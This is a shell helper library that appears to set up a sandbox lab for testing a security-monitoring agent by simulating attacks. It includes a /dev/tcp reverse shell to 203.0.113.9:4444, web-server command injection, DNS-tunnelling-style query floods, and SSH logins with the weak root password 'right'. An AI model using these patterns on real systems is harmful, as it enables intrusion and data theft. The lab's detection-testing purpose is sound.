# What scripts of a sandbox have in common. Its programs lie at /opt/lab.

# Programs of these names, which do nothing.
named() {
	for path; do mkdir -p "${path%/*}"; cp --remove-destination /bin/true "$path"; chmod 755 "$path"; done
}

# Shells under these names.
shell() {
	for path; do mkdir -p "${path%/*}"; cp --remove-destination /bin/dash "$path"; chmod 755 "$path"; done
}

# Somebody listens on this port of every address.
listener() {
	python3 -c 'import socket, sys, time
s = socket.create_server(("", int(sys.argv[1]))); kept = []
while True: kept.append(s.accept())' "$1" &
	until ss -ltn | grep -q ":$1 "; do sleep 0.05; done
}

# Its programs can be fetched from http://10.9.8.7:8000/
web() {
	(cd /opt/lab && exec python3 -m http.server -b 10.9.8.7 8000 > /dev/null 2>&1) &
	until ss -ltn | grep -q ':8000 '; do sleep 0.05; done
}

# A command in a shell that a web server has started, as through a hole in it.
server() {
	/usr/sbin/httpd -c 'sh -c "$0; :"; :' "$1"
}

# A command in a shell whose input and output are a connection.
remote() {
	bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; sh -c "$0; :" <&3 >&3 2>&3; :' "$1"
}

# A container engine; its containers lie in this sandbox's cgroup, or in another.
engine() {
	# On a slow machine containerd may need longer than its engine waits; the next one finds it.
	for try in 1 2 3; do
		dockerd --data-root /opt/lab/docker --exec-root /run/docker --pidfile /run/docker.pid -H unix:///run/docker.sock --bridge none --iptables=false --ip-forward=false \
			--exec-opt native.cgroupdriver=cgroupfs --cgroup-parent "${1-/$LAB}" && break
	done > /var/log/docker.log 2>&1 &
	until docker version > /dev/null 2>&1; do
		kill -0 $! || { tail /var/log/docker.log >&2; exit 1; }
		sleep 0.2
	done
}

# Its image debian:12, for an engine that is started later.
image() {
	engine
	docker image inspect debian:12 > /dev/null 2>&1 || docker import /opt/engine/base.tar debian:12
	kill "$(cat /run/docker.pid)"
	wait
}

# A name server that knows no name.
nxdomain() {
	python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("10.9.8.1", 53))
while True:
  query, peer = s.recvfrom(512); s.sendto(query[:2] + bytes([0x81, 0x83]) + query[4:], peer)' &
	until ss -lun | grep -q ':53 '; do sleep 0.05; done
}

# So many names are asked for, and the answers awaited.
names() {
	python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("10.9.8.1", 53)); s.settimeout(2)
for n in range(int(sys.argv[1])):
  s.send(bytes.fromhex("000101000001000000000000") + b"\x08" + b"%08d" % n + b"\x07example\0\0\1\0\1"); s.recv(512)' "$1"
}

# Queries of a type: so many, with names so long.
dns() {
	python3 -c '
import socket, sys
kind, count, length = {"A": 1, "TXT": 16}[sys.argv[1]], int(sys.argv[2]), int(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(count):
  name = b"".join(bytes([len(part)]) + part for part in (b"%0*d" % (length, n), b"x" * 20, b"example"))
  s.sendto(bytes.fromhex("000101000001000000000000") + name + bytes([0, 0, kind, 0, 1]), ("10.9.8.1", 53))' "$@"
}

# What programs log from here on lies in /var/log, as rsyslog writes it, and the lab reads it there. /dev is the host's: its own gets a socket for logs.
logged() {
	mkdir /tmp/dev; mount -t tmpfs -o mode=755 dev /tmp/dev
	cp -a /dev/null /dev/zero /dev/random /dev/urandom /dev/tty /dev/ptmx /dev/fd /dev/stdin /dev/stdout /dev/stderr /tmp/dev
	mkdir /tmp/dev/pts /tmp/dev/shm; mount --bind /dev/pts /tmp/dev/pts; mount --move /tmp/dev /dev
	mount --bind "/opt/lab/$LAB/var/log" /var/log
	mkdir -p /var/spool/rsyslog
	printf '%s\n' 'module(load="imuxsock")' 'auth,authpriv.* /var/log/auth.log' '*.*;auth,authpriv.none /var/log/syslog' > /etc/rsyslog.conf
	rsyslogd -i /run/rsyslogd.pid
	until [ -S /dev/log ] && [ -s /run/rsyslogd.pid ]; do sleep 0.05; done
}

# Everything that was logged is written.
written() {
	kill "$(cat /run/rsyslogd.pid)"
	while [ -e /run/rsyslogd.pid ]; do sleep 0.05; done
}

# A server of SSH can be started (/usr/sbin/sshd -f /srv/sshd); the password of ann and root is `right`.
logins() {
	grep -q ^sshd: /etc/passwd || echo 'sshd:x:105:65534::/run/sshd:/usr/sbin/nologin' >> /etc/passwd
	printf '#!/bin/sh\necho "$WORD"\n' > /opt/word; chmod 755 /opt/word
	echo '127.0.1.1 lab' >> /etc/hosts; pwconv; printf 'ann:right\nroot:right\n' | chpasswd
	mkdir -p /run/sshd /etc/ssh; ssh-keygen -A
	printf '%s\n' 'UsePAM yes' 'PermitRootLogin yes' 'MaxStartups 100' > /srv/sshd
}

# Somebody at the address 203.0.113.9 logs in: with this password, as this user.
login() {
	WORD=$1 SSH_ASKPASS=/opt/word SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -o NumberOfPasswordPrompts=${3-1} "$2@203.0.113.9" true
}

# In a guest: the agent has looked at the integrity of kernel and host, and told what it found.
looked() {
	# The first look may have begun before what it should see, the third one begins when the second is told.
	for n in 1 2 3; do
		touch /tmp/now
		until [ "$LOOK" -nt /tmp/now ]; do sleep 0.2; done
	done
}
